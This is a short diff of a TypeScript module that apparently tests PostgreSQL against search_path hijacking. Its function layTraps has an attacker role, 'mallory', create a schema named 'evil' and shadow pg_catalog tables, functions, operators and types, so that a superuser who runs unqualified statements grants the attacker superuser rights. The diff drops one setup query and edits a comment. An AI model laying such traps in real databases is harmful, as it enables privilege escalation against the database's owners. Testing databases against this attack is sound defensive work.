@@ -5,11 +5,10 @@ export const attacker = 'mallory'
 /**
  * Puts a trap in the place of everything in `pg_catalog` that a statement may name without its schema: tables and views,
  * functions, operators, types. The attacker owns the database, and makes it search his schema first. Whoever falls into one
- * as a superuser makes him a superuser, too.
+ * as a superuser makes him a superuser, too. `spring` has been created.
  */
 export async function layTraps(session: pg.Client): Promise<void> {
   await session.query('CREATE SCHEMA evil')
-  await session.query(spring)
   // Some things of pg_catalog can't be replaced by an ordinary role, such as functions on pseudo-types.
   for (const statements of [views, functions, operators, types])
     await session.query(`DO $do$ DECLARE sql text; BEGIN FOR sql IN ${statements} LOOP
